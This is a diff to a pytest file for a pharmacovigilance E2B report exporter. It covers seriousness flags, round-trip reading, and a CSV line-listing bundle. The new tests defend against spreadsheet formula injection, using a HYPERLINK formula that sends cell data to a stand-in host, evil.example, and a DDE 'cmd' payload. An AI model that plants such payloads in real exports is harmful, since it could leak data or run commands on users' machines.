@@ -3,7 +3,10 @@
 MedDRA codes here are made up (8 digits); no MedDRA content is shipped.
 """
 
+import csv
+import io
 import xml.etree.ElementTree as ET
+import zipfile
 from dataclasses import replace
 from datetime import UTC, date, datetime, timedelta, timezone
 from pathlib import Path
@@ -175,16 +178,30 @@ def test_a_reaction_not_yet_coded_keeps_its_words_without_a_code() -> None:
     assert at(value, "originalText").attrib == {"language": "eng"}
 
 
-def test_seriousness_criteria_are_true_false_or_null_no_information() -> None:
+def test_seriousness_criteria_are_true_or_null_no_information_no_and_unknown_alike() -> None:
     observed = reaction(root_of(batch()))
     flags = {code: at(coded(observed, "outboundRelationship2/observation", code), "value").attrib
              for code in ("34", "21", "33", "35", "12", "26")}
-    assert flags == {"34": {XSI_TYPE: "BL", "value": "false"},
-                     "21": {XSI_TYPE: "BL", "value": "false"},
+    no_information = {XSI_TYPE: "BL", "nullFlavor": "NI"}  # as the FDA sample writes it
+    assert flags == {"34": no_information, "21": no_information,
                      "33": {XSI_TYPE: "BL", "value": "true"},
-                     "35": {XSI_TYPE: "BL", "nullFlavor": "NI"},
-                     "12": {XSI_TYPE: "BL", "value": "false"},
-                     "26": {XSI_TYPE: "BL", "nullFlavor": "NI"}}
+                     "35": no_information, "12": no_information, "26": no_information}
+
+
+def test_an_icsr_of_a_case_answered_no_carries_no_false_anywhere() -> None:
+    no = dict.fromkeys(SERIOUSNESS, "no")
+    reactions = tuple(replace(r, seriousness=no) for r in a_case().reactions)
+    xml = batch(a_case(reactions=reactions)).decode()
+    assert 'value="false"' not in xml and "false" not in xml.lower()
+    assert xml.count('nullFlavor="NI"') >= len(reactions) * len(SERIOUSNESS)
+
+
+def test_a_seriousness_criterion_written_false_is_refused_when_read() -> None:
+    xml = batch().decode()
+    old = '<value xsi:type="BL" value="true" />'
+    assert old in xml
+    with pytest.raises(E2BError, match=r"E\.i\.3\.2"):
+        e2b.read_batch(xml.replace(old, '<value xsi:type="BL" value="false" />').encode())
 
 
 @pytest.mark.parametrize(("outcome", "code"), [
@@ -251,6 +268,14 @@ def test_narrative_sender_type_and_organisation_and_report_type() -> None:
 
 # --- the round trip ------------------------------------------------------------------------------
 
+def as_the_icsr_carries(case: Case) -> Case:
+    """The case read back from its ICSR: E.i.3.2 carries only true or NI, so a "no" of the
+    reporter's (kept in our own record) comes back "unknown"."""
+    return replace(case, reactions=tuple(replace(r, seriousness={
+        c: "yes" if r.seriousness.get(c) == "yes" else "unknown" for c in SERIOUSNESS})
+        for r in case.reactions))
+
+
 def test_cases_read_back_equal() -> None:
     cases = [a_case(),
              a_case(safety_report_id="IN-PU-000123-V2", version=2, reporter_name="Asha",
@@ -259,7 +284,7 @@ def test_cases_read_back_equal() -> None:
                     created_at=datetime(2024, 2, 1, 9, 0, tzinfo=IST)),
              a_case(case_id=UUID(int=2), patient_initials=None, patient_sex="unknown",
                     reactions=(), medicines=(), causality=(), narrative="", history="")]
-    assert e2b.read_batch(batch(*cases)) == cases
+    assert e2b.read_batch(batch(*cases)) == [as_the_icsr_carries(c) for c in cases]
 
 
 def test_the_batch_header_reads_back() -> None:
@@ -392,3 +417,32 @@ def test_an_empty_batch_and_unknown_acknowledgement_codes_are_refused() -> None:
         e2b.read_ack(positive.replace(b'typeCode="CA"', b'typeCode="XX"'))
     with pytest.raises(E2BError):
         e2b.read_batch(positive)
+
+
+# --- the line listing ----------------------------------------------------------------------------
+
+def listed(*cases: Case) -> list[dict[str, str]]:
+    zipped = e2b.bundle(cases, ["received"] * len(cases), batch_id="B", sender_id="S",
+                        receiver_id="R", created_at=datetime(2024, 1, 1, tzinfo=UTC))
+    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
+        listing = archive.read("B-line-listing.csv").decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(listing)))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(start: str) -> None:
+    words = f'{start}HYPERLINK("http://evil.example/?"&A1, "rash, \'itchy\'")'
+    rash = replace(a_case().reactions[0], description=words)
+    medicine = replace(a_case().medicines[0], name=f"{start}cmd|' /C calc'!A0")
+    [row] = listed(a_case(reactions=(rash,), medicines=(medicine,), causality=()))
+    assert row["reactions"] == f"'{words}"  # the rest of the text intact
+    assert row["suspect_medicines"] == f"'{start}cmd|' /C calc'!A0"
+    assert row["reference"] == "000123"  # harmless cells as they were
+
+
+def test_every_cell_of_the_line_listing_is_quoted() -> None:
+    zipped = e2b.bundle([a_case()], ["received"], batch_id="B", sender_id="S",
+                        receiver_id="R", created_at=datetime(2024, 1, 1, tzinfo=UTC))
+    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
+        lines = archive.read("B-line-listing.csv").decode("utf-8-sig").splitlines()
+    assert all(line.startswith('"') and line.endswith('"') for line in lines)
